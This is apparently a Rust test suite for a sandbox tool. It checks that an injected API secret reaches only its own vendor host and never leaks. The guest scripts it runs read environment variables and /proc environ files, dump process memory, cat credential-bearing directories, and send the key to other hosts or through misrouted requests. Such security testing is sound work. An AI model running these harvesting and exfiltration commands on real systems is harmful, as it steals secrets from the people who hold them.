//! Attack 30: the value is never inside, and goes to its own hosts only.

use super::rig::{Rig, VALUE};
use crate::for_every_engine;
use crate::support::{Fixture, RunToEnd, Running, command_lines};

for_every_engine!(
    attack_30_the_value_is_in_no_variable_file_process_or_answer,
    attack_30_the_guests_own_key_is_never_passed_on,
    attack_30_the_value_goes_nowhere_else,
);

fn attack_30_the_value_is_in_no_variable_file_process_or_answer(fixture: &Fixture) {
    let rig = Rig::start(fixture);
    let needle = &VALUE[8..];
    let script = r#"
        for path in / /chunks /header /error '/x?x=1'; do
            curl -sS -i -d "$A_TEST_KEY" -H "X-Note: $A_TEST_KEY" "https://api.vendor.example$path" 2>&1
            curl -sS -i --compressed -H 'Range: bytes=0-9' "https://api.vendor.example$path" 2>&1
        done
        curl -sS -i "https://api.vendor.example/stale" 2>&1
        curl -sS -i "https://api.vendor.example/compressed" 2>&1
        env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
        find /.sandpen /tmp /etc /run "$HOME" . -type f -size -4M -exec cat {} + 2>/dev/null
        for process in /proc/[0-9]*; do
            dd if=$process/mem bs=1M count=64 2>/dev/null
            grep -h rw-p $process/maps 2>/dev/null | while IFS='- ' read -r from to rest; do
                dd if=$process/mem bs=4096 skip=$((0x$from / 4096)) count=$(((0x$to - 0x$from) / 4096)) 2>/dev/null
            done
        done"#;
    // Searched outside: the script must not contain the value itself.
    let found = rig.bash(fixture, &[], script);
    assert!(found.stdout.contains("HTTP/1.1 200"), "{found:?}");
    let position = found.stdout.find(needle);
    let around = position.map(|at| found.stdout[at.saturating_sub(300)..].chars().take(700).collect::<String>());
    assert_eq!(around, None);
    assert!(!found.stdout.contains("UmVhbFZhbHVl"), "no base64 of it either");
    assert!(found.stdout.contains("502 Bad Gateway"), "a compressed answer is not passed on");
    assert!(found.stdout.contains("the value of A_TEST_KEY on the host was not accepted"), "a stale value says so");
    assert!(found.stderr.contains("api.vendor.example did not accept the value of A_TEST_KEY"), "{}", found.stderr);
    assert!(rig.requests().iter().filter(|request| request.contains(VALUE)).count() >= 10);
    // Neither is it in an argument of a process outside, in the record, or in an explanation.
    let mut command = fixture.run();
    command.envs(rig.host()).args([
        "--secret",
        "A_TEST_KEY@api.vendor.example",
        "--",
        "bash",
        "-c",
        "echo; read -r _; true",
    ]);
    let mut running = Running::start(command.stdin(std::process::Stdio::piped()));
    running.line();
    assert!(!command_lines().iter().any(|line| line.contains(needle)));
    running.close_stdin();
    running.finish().success();
    let log = fixture.sandpen(["log", "--format", "json"]).finish();
    assert!(!log.success().contains(needle), "{}", log.stdout);
    for format in ["text", "json"] {
        let mut explain = fixture.command("explain");
        explain.envs(rig.host()).args(["--format", format, "--secret", "A_TEST_KEY@api.vendor.example", "--", "true"]);
        let explained = explain.finish();
        assert!(explained.success().contains("api.vendor.example") && !explained.stdout.contains(needle));
    }
}

fn attack_30_the_guests_own_key_is_never_passed_on(fixture: &Fixture) {
    let rig = Rig::start(fixture);
    let script = r#"
        ask() { curl -sS -o /dev/null "$@" 2>&1; }
        ask -H 'Authorization: Bearer attackers-key' https://api.vendor.example/1
        ask -H 'X-Api-Key: attackers-key' -H 'X-Goog-Api-Key: attackers-key' https://api.vendor.example/2
        ask -u 'user:attackers-key' -H 'Cookie: session=attackers-key' https://api.vendor.example/3
        ask 'https://api.vendor.example/4?key=attackers-key&access_token=attackers-key&x=1'
        ask -H 'Proxy-Authorization: Bearer attackers-key' -H 'Private-Token: attackers-key' https://api.vendor.example/5
        ask -H 'Authorization: Bearer attackers-key' -H 'Connection: Authorization' https://api.vendor.example/6"#;
    rig.bash(fixture, &[], script).success();
    let requests = rig.requests();
    assert_eq!(requests.len(), 6, "{requests:?}");
    for request in &requests {
        assert!(!request.contains("attackers-key") && !request.contains("YXR0YWNrZXJz"), "{request}");
        assert_eq!(request.matches(VALUE).count(), 1, "{request}");
    }
}

fn attack_30_the_value_goes_nowhere_else(fixture: &Fixture) {
    let rig = Rig::start(fixture);
    let script = r#"
        ask() { curl -sS -m 20 -o /dev/null -w '%{http_code} ' "$@" 2>/dev/null; echo "$?"; }
        for host in other.vendor.example api.anthropic.com; do
            ask -H "Authorization: Bearer $A_TEST_KEY" -H "X-Api-Key: $A_TEST_KEY" "https://$host/?key=$A_TEST_KEY"
        done
        ask -H "Authorization: Bearer $A_TEST_KEY" https://api.vendor.example:8443/
        ask -H "Authorization: Bearer $A_TEST_KEY" http://api.vendor.example/
        ask -H 'Host: other.vendor.example' https://api.vendor.example/misdirected
        ask --connect-to api.vendor.example:443:other.vendor.example:443 https://api.vendor.example/elsewhere
        ask --connect-to other.vendor.example:443:api.vendor.example:443 https://other.vendor.example/other-name
        ask -X TRACE https://api.vendor.example/trace
        ask -X CONNECT https://api.vendor.example/connect
        ask --proxy "" https://api.vendor.example/around
        ask -d "$A_TEST_KEY" https://api.vendor.example/body"#;
    let finished = rig.bash(fixture, &[], script);
    finished.success();
    let with_value: Vec<String> = rig.requests().into_iter().filter(|request| request.contains(VALUE)).collect();
    assert_eq!(with_value.len(), 1, "{with_value:?}");
    assert!(with_value[0].starts_with("POST /body "), "{with_value:?}");
    assert_eq!(with_value[0].matches(VALUE).count(), 1, "the body has the placeholder");
    for path in ["/misdirected", "/other-name", "/trace", "/connect", "/around"] {
        assert!(!rig.requests().iter().any(|request| request.contains(path)), "{path}");
    }
    let log = fixture.sandpen(["log", "--format", "json"]).finish();
    assert!(log.success().contains("\"gate\":\"secret\",\"verdict\":\"refused\""), "{}", log.stdout);
}
